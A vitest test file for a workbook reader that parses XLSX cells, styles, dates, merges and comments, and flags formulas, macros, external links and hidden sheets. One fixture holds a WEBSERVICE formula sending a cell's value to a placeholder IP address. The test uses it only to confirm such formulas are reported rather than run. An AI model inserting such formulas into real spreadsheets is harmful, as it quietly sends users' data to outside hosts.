import { expect, test } from "vitest";
import {
  packed,
  relations,
  sharedStringsOf,
  text,
  workbookParts,
  worksheet,
} from "../../testing/workbook.ts";
import type { Parts } from "../../testing/workbook.ts";
import { readWorkbook } from "./index.ts";

const read = (sheet: string, more: Parts = {}) => readWorkbook(packed(workbookParts(sheet, more)));
const texts = (sheet: string, more: Parts = {}) =>
  read(sheet, more).grids[0]?.rows.map(({ cells }) => cells.map((cell) => cell.text));

test("cells are read where they say they stand, rows by their number", () => {
  const sheet = worksheet(`<row r="3">${text("B3", "tread")}</row><row r="9">${text("A9", "x")}</row>`);
  expect(read(sheet).grids).toEqual([
    {
      name: "Car",
      rows: [
        { number: 3, cells: [{ text: "" }, { text: "tread" }] },
        { number: 9, cells: [{ text: "x" }] },
      ],
    },
  ]);
});

test("runs of rich text are one text, and how it is read aloud is none of it", () => {
  const strings = sharedStringsOf("<r><t>LF </t></r><r><rPr/><t>tread</t></r><rPh><t>ae</t></rPh>");
  const sheet = worksheet('<row><c t="s"><v>0</v></c></row>');
  expect(texts(sheet, { "xl/sharedStrings.xml": strings })).toEqual([["LF tread"]]);
});

const styles = `<styleSheet><numFmts><numFmt numFmtId="164" formatCode="0.0&quot; mm&quot;"/><numFmt numFmtId="165" formatCode="dd/mm/yyyy;@"/></numFmts><cellStyleXfs><xf numFmtId="9"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="9"/><xf numFmtId="164"/><xf numFmtId="165"/></cellXfs></styleSheet>`;

test.each([
  [0, "5.2999999999999998", "5.3"],
  [1, "45000", "2023-03-15"],
  [1, "45000.5", "2023-03-15 12:00"],
  [1, "0.25", "06:00"],
  [2, "0.45", "45%"],
  [3, "4.5", "4.5 mm"],
  [4, "45000", "2023-03-15"],
])("a number of style %i, %s, shows as %j", (style, value, shown) => {
  const sheet = worksheet(`<row><c s="${style}"><v>${value}</v></c></row>`);
  expect(texts(sheet, { "xl/styles.xml": styles })).toEqual([[shown]]);
});

test("days are counted from 1904 where the workbook says so", () => {
  const workbook = `<workbook xmlns:r="r"><workbookPr date1904="1"/><sheets><sheet name="Car" r:id="rId1"/></sheets></workbook>`;
  const sheet = worksheet('<row><c s="1"><v>1</v></c></row>');
  expect(texts(sheet, { "xl/styles.xml": styles, "xl/workbook.xml": workbook })).toEqual([["1904-01-02"]]);
});

test("merged cells repeat their text to the right, and down where rows hold something", () => {
  const rows = `<row r="1">${text("A1", "Front")}</row><row r="2">${text("B2", "tread")}</row>`;
  const sheet = worksheet(
    rows,
    '<mergeCells><mergeCell ref="A1:A40"/><mergeCell ref="XX1:ZZ9"/></mergeCells>',
  );
  expect(read(sheet).grids[0]?.rows).toEqual([
    { number: 1, cells: [{ text: "Front" }] },
    { number: 2, cells: [{ text: "Front", under: "above" }, { text: "tread" }] },
  ]);
});

test("a note stands with its cell, without the author's name", () => {
  const notes =
    '<comments><commentList><comment ref="A1"><text><r><t>R. Ashby:\n</t></r><r><t>uneven wear</t></r></text></comment></commentList></comments>';
  const book = read(worksheet(`<row>${text("A1", "5/32")}</row>`), {
    "xl/worksheets/_rels/sheet1.xml.rels": relations(["comments", "../comments1.xml"]),
    "xl/comments1.xml": notes,
  });
  expect(book.grids[0]?.rows[0]?.cells).toEqual([{ text: "5/32", note: "uneven wear" }]);
});

test("what a formula gave is text, and that it was one is said", () => {
  const sheet = worksheet('<row><c><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f><v>7</v></c></row>');
  const book = read(sheet);
  expect(book.grids[0]?.rows[0]?.cells).toEqual([{ text: "7", formula: true }]);
  expect(book.aside).toEqual([{ kind: "formulas", count: 1 }]);
});

test("links to other files, macros and hidden worksheets are left aside and said", () => {
  const workbook = `<workbook xmlns:r="r"><sheets><sheet name="Car" r:id="rId1"/><sheet name="Lists" state="hidden" r:id="rId1"/></sheets></workbook>`;
  const book = read(worksheet(`<row>${text("A1", "x")}</row>`), {
    "xl/workbook.xml": workbook,
    "xl/externalLinks/externalLink1.xml": "<externalLink/>",
    "xl/vbaProject.bin": "x",
  });
  expect(book.grids).toHaveLength(1);
  expect(book.aside).toEqual([
    { kind: "external-links", count: 1 },
    { kind: "macros" },
    { kind: "hidden-worksheet", name: "Lists" },
  ]);
});

test("elements may bear a prefix", () => {
  const sheet =
    '<x:worksheet xmlns:x="m"><x:sheetData><x:row><x:c t="str"><x:v>ok</x:v></x:c></x:row></x:sheetData></x:worksheet>';
  expect(texts(sheet)).toEqual([["ok"]]);
});
